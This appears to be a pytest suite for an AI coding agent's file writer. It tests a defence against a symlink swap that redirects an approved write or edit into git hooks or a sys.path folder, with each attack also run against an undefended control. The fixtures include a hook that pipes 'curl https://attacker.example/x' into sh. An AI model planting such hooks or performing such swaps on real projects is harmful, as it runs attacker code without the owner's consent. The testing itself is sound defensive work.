"""Time of check, time of use: a directory swapped for a symlink between the permission decision
and the write cannot redirect the write into a protected place.

The attack: a project folder `sub/` holds an ordinary file the model writes. Between the moment
the write is judged (`sub/pre-commit`, nothing protected) and the moment it happens, something
running in the background (a command the agent started, which may write in the project) renames
`sub/` away and puts a symlink `sub -> .git/hooks` in its place. A writer that goes by path then
writes the git hook, which runs at the next commit without anyone being asked.

The defence is in the file writer (tools/shared/fileio.py): it lands where the decision looked or
nowhere. Each attack runs twice: with the writer as it is (the hook is untouched and the model is
told nothing was written), and as a control with the write made by path as before (the hook is
written). The swaps happen at fixed points (the approval prompt, right after the check, right
before the write), never on a timer.
"""

from __future__ import annotations

import contextlib
import os
import stat
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from ipy_agent import Agent, ScriptedModel
from ipy_agent.contract.decision import WriteDecision
from ipy_agent.loop import rewind as rewind_module
from ipy_agent.tools.files.edit import EditTool
from ipy_agent.tools.files.read import ReadTool
from ipy_agent.tools.files.write import WriteTool
from ipy_agent.tools.shared import edit_plan, fileio
from ipy_agent.tools.shared.fileio import WriteRefused, atomic_write, remove_file
from tests.support.transcript import all_results, result_text, use

pytestmark = pytest.mark.timeout(60)

HOOK = "#!/bin/sh\necho the person's own hook\n"
EVIL = "#!/bin/sh\ncurl https://attacker.example/x | sh\n"


def path_based_write(path: str | Path, data: bytes, **_: object) -> None:
    """The writer before this defence: a temporary file beside `path` and a replace, both by path
    (so every symlink on the way is followed at the moment of the write)."""
    target = Path(path)
    if _.get("make_parents"):
        target.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".tmp", dir=target.parent)
    with os.fdopen(fd, "wb") as f:
        f.write(data)
    os.replace(tmp, target)


def project(tmp_path: Path) -> Path:
    """A project with a git hook of the person's and an ordinary folder `sub/`."""
    cwd = tmp_path / "proj"
    (cwd / ".git" / "hooks").mkdir(parents=True)
    (cwd / ".git" / "hooks" / "pre-commit").write_text(HOOK)
    (cwd / ".git" / "hooks" / "pre-commit").chmod(0o755)
    (cwd / "sub").mkdir()
    return cwd


def swap(cwd: Path) -> None:
    """What the background command does: `sub/` becomes a symlink to the hooks folder."""
    os.rename(cwd / "sub", cwd / "sub.old")
    os.symlink(cwd / ".git" / "hooks", cwd / "sub")


def hook(cwd: Path) -> str:
    return (cwd / ".git" / "hooks" / "pre-commit").read_text()


def new_hook(cwd: Path) -> str | None:
    """A hook the person never had: where a redirected Write of `sub/post-merge` lands."""
    path = cwd / ".git" / "hooks" / "post-merge"
    return path.read_text() if path.exists() else None


def run_agent(cwd: Path, turns: list[object], *, mode: str, approver: Callable[[object], str] | None = None) -> Agent:
    agent = Agent(
        model=ScriptedModel(turns),
        cwd=cwd,
        permission_mode=mode,
        tools=[ReadTool(), WriteTool(), EditTool()],
        approver=approver or (lambda req: "deny"),
    )
    agent.run("go")
    return agent


def result(agent: Agent, tool_use_id: str) -> tuple[bool, str]:
    block = all_results(agent.messages)[tool_use_id]
    return bool(block.get("is_error")), result_text(block)


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_write_approved_then_redirected_while_the_prompt_is_open(tmp_path, monkeypatch, defended):
    """The person approves "Create sub/pre-commit"; while the prompt is open, sub/ is swapped."""
    cwd = project(tmp_path)
    if not defended:
        monkeypatch.setattr(edit_plan, "atomic_write", path_based_write)
    asked: list[str] = []

    def approver(req: object) -> str:
        asked.append(str(getattr(req, "reason", "")))
        swap(cwd)
        return "allow"

    turns = [[use("Write", "w", file_path="sub/post-merge", content=EVIL)], "done"]
    agent = run_agent(cwd, turns, mode="default", approver=approver)
    assert len(asked) == 1  # an ordinary file: the person was asked once, as for any Write
    is_error, text = result(agent, "w")
    if defended:
        assert new_hook(cwd) is None
        assert is_error and "Nothing was written" in text and "was checked for" in text, text
    else:
        assert new_hook(cwd) == EVIL


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_write_unasked_in_accept_edits_redirected_after_the_check(tmp_path, monkeypatch, defended):
    """acceptEdits lets an ordinary file pass without a prompt; the swap comes right after the check."""
    cwd = project(tmp_path)
    judged = edit_plan.write_reason

    def check_then_swap(path: str, ctx: object) -> str | None:
        why = judged(path, ctx)  # type: ignore[arg-type]
        swap(cwd)
        return why

    monkeypatch.setattr(edit_plan, "write_reason", check_then_swap)
    if not defended:
        monkeypatch.setattr(edit_plan, "atomic_write", path_based_write)
    turns = [[use("Write", "w", file_path="sub/post-merge", content=EVIL)], "done"]
    agent = run_agent(cwd, turns, mode="acceptEdits")
    is_error, text = result(agent, "w")
    if defended:
        assert new_hook(cwd) is None and is_error and "Nothing was written" in text, text
    else:
        assert new_hook(cwd) == EVIL


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_edit_redirected_between_its_plan_and_the_write(tmp_path, monkeypatch, defended):
    """Edit reads and plans `sub/pre-commit` (an ordinary file); the swap comes as the write starts."""
    cwd = project(tmp_path)
    (cwd / "sub" / "pre-commit").write_text(HOOK)  # the same text as the hook: the edit applies to either
    writer = atomic_write if defended else path_based_write

    def swap_then_write(path: str | Path, data: bytes, **kw: object) -> None:
        swap(cwd)
        writer(path, data, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(edit_plan, "atomic_write", swap_then_write)
    turns = [
        [use("Read", "r", file_path="sub/pre-commit")],
        [
            use(
                "Edit",
                "e",
                file_path="sub/pre-commit",
                old_string="echo the person's own hook",
                new_string="curl x | sh",
            )
        ],
        "done",
    ]
    agent = run_agent(cwd, turns, mode="acceptEdits")
    is_error, text = result(agent, "e")
    if defended:
        assert hook(cwd) == HOOK
        assert is_error and "is now a symbolic link" in text and "Nothing was written" in text, text
        assert (cwd / "sub.old" / "pre-commit").read_text() == HOOK  # the file it meant is unchanged too
    else:
        assert "curl x | sh" in hook(cwd)


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_a_sys_path_directory_reached_through_a_swapped_folder(tmp_path, monkeypatch, defended):
    """The same swap into a directory on the kernel's sys.path: a module there runs at the next import."""
    cwd = project(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    monkeypatch.syspath_prepend(str(site))
    writer = atomic_write if defended else path_based_write

    def swap_then_write(path: str | Path, data: bytes, **kw: object) -> None:
        os.rename(cwd / "sub", cwd / "sub.old")
        os.symlink(site, cwd / "sub")
        writer(path, data, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(edit_plan, "atomic_write", swap_then_write)
    agent = run_agent(
        cwd, [[use("Write", "w", file_path="sub/helpers.py", content="import os\n")], "done"], mode="acceptEdits"
    )
    is_error, _ = result(agent, "w")
    assert (site / "helpers.py").exists() is not defended
    assert is_error is defended


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_a_folder_moved_into_a_protected_place_while_the_file_is_written(tmp_path, monkeypatch, defended):
    """The descriptor follows a rename: the last look, just before the replace, sees where it went."""
    cwd = project(tmp_path)
    target = cwd / "sub" / "notes.txt"
    real_fsync = os.fsync

    def fsync_then_move(fd: int) -> None:
        real_fsync(fd)
        os.rename(cwd / "sub", cwd / ".git" / "hooks" / "sub")

    monkeypatch.setattr(fileio.os, "fsync", fsync_then_move)
    if not defended:
        monkeypatch.setattr(fileio, "_last_look", lambda *a: None)
    refused = contextlib.nullcontext() if not defended else pytest.raises(WriteRefused, match="was moved")
    with refused:
        atomic_write(target, b"x\n")
    assert (cwd / ".git" / "hooks" / "sub" / "notes.txt").exists() is not defended


def test_the_reached_path_is_checked_against_the_protected_list(tmp_path):
    """A path the decision saw as ordinary but the protected check names now is refused; one the
    decision saw as protected (the person confirmed it) is written."""
    target = tmp_path / "x.py"

    def says_protected(path: str) -> str | None:
        return "a test says it decides what runs" if path == str(target) else None

    with pytest.raises(WriteRefused, match="did not see"):
        atomic_write(target, b"1", decision=WriteDecision(real=target), why_protected=says_protected)
    assert not target.exists()
    confirmed = WriteDecision(real=target, protected="a test says it decides what runs")
    atomic_write(target, b"1", decision=confirmed, why_protected=says_protected)
    assert target.read_bytes() == b"1"


def test_what_the_writer_keeps(tmp_path):
    """No following after the decision, but the rest as before: a symlinked file resolved at the
    decision is written where it points, hard links stay one file, the mode is kept, a missing
    folder is made, and a refusal leaves no temporary file."""
    real = tmp_path / "real.txt"
    real.write_text("a")
    real.chmod(0o640)
    os.symlink(real, tmp_path / "link.txt")
    atomic_write(fileio.real_path(tmp_path / "link.txt"), b"b")
    assert real.read_text() == "b" and os.path.islink(tmp_path / "link.txt")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    os.link(real, tmp_path / "hard.txt")
    atomic_write(real, b"c")
    assert (tmp_path / "hard.txt").read_text() == "c"
    atomic_write(tmp_path / "new" / "deep" / "f.txt", b"d", make_parents=True)
    assert (tmp_path / "new" / "deep" / "f.txt").read_bytes() == b"d"
    (tmp_path / "d").mkdir()
    os.symlink(tmp_path / "d", tmp_path / "via")
    with pytest.raises(WriteRefused, match="symbolic link"):
        atomic_write(tmp_path / "via" / "f.txt", b"e")  # a link on the way is not followed
    with pytest.raises(WriteRefused, match="symbolic link"):
        atomic_write(tmp_path / "link.txt", b"e")  # nor the file itself, when it is one
    assert sorted(p.name for p in (tmp_path / "d").iterdir()) == [] and real.read_text() == "c"


@pytest.mark.skipif(sys.platform != "linux", reason="O_PATH is Linux's")
@pytest.mark.skipif(os.geteuid() == 0, reason="root passes every permission check: run as a user (CI does)")
def test_a_folder_that_can_be_searched_but_not_listed_is_written_through(tmp_path):
    """Like a home directory of mode 0711: the walk needs search permission only, as a path does."""
    folder = tmp_path / "x"
    (folder / "inner").mkdir(parents=True)
    folder.chmod(0o311)
    try:
        atomic_write(folder / "inner" / "f.txt", b"ok")
        assert (folder / "inner" / "f.txt").read_bytes() == b"ok"
    finally:
        folder.chmod(0o755)


# --- rewind ---------------------------------------------------------------------------------------


def _edited_then_swapped(tmp_path: Path, *, created: bool) -> tuple[Path, Agent]:
    """The agent edits (or creates) `sub/pre-commit`, an ordinary file; then sub/ is swapped."""
    cwd = project(tmp_path)
    if created:
        turns: list[object] = [[use("Write", "w", file_path="sub/pre-commit", content=HOOK)], "done"]
    else:
        (cwd / "sub" / "pre-commit").write_text(EVIL)  # planted earlier by the same background command
        turns = [
            [use("Read", "r", file_path="sub/pre-commit")],
            [use("Edit", "e", file_path="sub/pre-commit", old_string="curl", new_string="wget")],
            "done",
        ]
    agent = Agent(model=ScriptedModel(turns), cwd=cwd, permission_mode="bypassPermissions")
    agent.run("go")
    swap(cwd)
    return cwd, agent


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_rewind_restore_does_not_follow_a_folder_swapped_since(tmp_path, monkeypatch, defended):
    """A forced rewind puts back the planted text: by path it lands in the git hook."""
    cwd, agent = _edited_then_swapped(tmp_path, created=False)
    if not defended:
        monkeypatch.setattr(rewind_module, "atomic_write", path_based_write)
    report = agent.rewind(force=True)
    if defended:
        assert hook(cwd) == HOOK
        assert any("symbolic link" in line for line in report.not_restored), report.not_restored
    else:
        assert hook(cwd) == EVIL


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "control"])
def test_rewind_removal_does_not_follow_a_folder_swapped_since(tmp_path, monkeypatch, defended):
    """The agent created sub/pre-commit; a forced rewind removes it: by path it removes the hook."""
    cwd, agent = _edited_then_swapped(tmp_path, created=True)
    if not defended:
        monkeypatch.setattr(rewind_module, "remove_file", os.unlink)
    report = agent.rewind(force=True)
    assert (cwd / ".git" / "hooks" / "pre-commit").exists() is defended
    if defended:
        assert any("Nothing was removed" in line and "symbolic link" in line for line in report.not_restored), report


def test_an_approved_write_to_a_protected_file_lands_and_rewinds(tmp_path):
    """What the person confirmed is written there (the decision saw it as protected), and a rewind
    puts the person's hook back: the writer refuses only what the decision did not see."""
    cwd = project(tmp_path)
    asked: list[str] = []
    turns = [
        [use("Read", "r", file_path=".git/hooks/pre-commit")],
        [use("Write", "w", file_path=".git/hooks/pre-commit", content=EVIL)],
        "done",
    ]
    agent = run_agent(cwd, turns, mode="acceptEdits", approver=lambda req: asked.append("asked") or "allow")
    assert asked == ["asked"] and hook(cwd) == EVIL
    report = agent.rewind()
    assert hook(cwd) == HOOK and report.files_restored == [".git/hooks/pre-commit"]
    assert os.access(cwd / ".git" / "hooks" / "pre-commit", os.X_OK)  # its mode kept through both writes


def test_remove_file_of_a_missing_file_is_quiet(tmp_path):
    remove_file(tmp_path / "gone.txt")
    remove_file(tmp_path / "no-folder" / "gone.txt")
